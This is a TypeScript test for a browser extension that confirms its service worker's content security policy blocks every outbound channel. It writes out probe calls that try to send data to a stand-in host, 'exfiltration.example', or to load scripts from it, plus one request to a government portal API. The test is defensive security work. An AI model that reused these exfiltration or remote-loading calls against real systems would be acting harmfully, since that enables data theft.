/** Promise 1 in the background: the service worker's own requests are stopped by the CSP. */
import { expect } from 'vitest';
import type { Browser } from 'puppeteer-core';
import { eachBrowser } from './support/each-browser.ts';
import { consent } from './support/person.ts';
import { until } from './support/until.ts';

const WAYS = `(async () => {
  const rejected = (act) => Promise.resolve().then(act).then(() => 'not refused', () => 'refused');
  return {
    fetch: await rejected(() => fetch('https://exfiltration.example/out')),
    fetchPortal: await rejected(() => fetch('https://administration-etrangers-en-france.interieur.gouv.fr/api/usager/moi')),
    webSocket: await rejected(() => new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://exfiltration.example/out');
      socket.onerror = reject;
      socket.onopen = resolve;
    })),
    importScripts: await rejected(() => importScripts('https://exfiltration.example/out.js')),
    import: await rejected(() => import('https://exfiltration.example/out.js')),
    webRtc: typeof RTCPeerConnection === 'undefined' ? 'refused' : 'not refused',
    xhr: typeof XMLHttpRequest === 'undefined' ? 'refused' : 'not refused',
    beacon: typeof navigator.sendBeacon === 'undefined' ? 'refused' : 'not refused',
  };
})()`;

eachBrowser(
  // Firefox has no worker: its background is a page, under the pages' policy (promise-ways-out tries that in both).
  { browsers: ['chromium'], timeoutMs: 180_000 },
  'every way out of the worker is refused before a host is asked for',
  async ({ browser, portal }) => {
    await consent(browser);
    const page = await browser.extensionPage('journal.html');
    const worker = await until(() => workerOf(page.browser()), { what: 'the service worker' });
    const before = portal.log().length;
    const answers: unknown = await worker.evaluate(WAYS);
    const ways = Object.keys(answers ?? {});
    expect(ways).toHaveLength(8);
    expect(answers).toEqual(Object.fromEntries(ways.map((way) => [way, 'refused'])));
    expect(browser.refusedHosts()).toEqual([]);
    expect(portal.log()).toHaveLength(before);
  },
);

async function workerOf(browser: Browser) {
  const target = browser
    .targets()
    .find((each) => each.type() === 'service_worker' && each.url().startsWith('chrome-extension:'));
  return target?.worker();
}
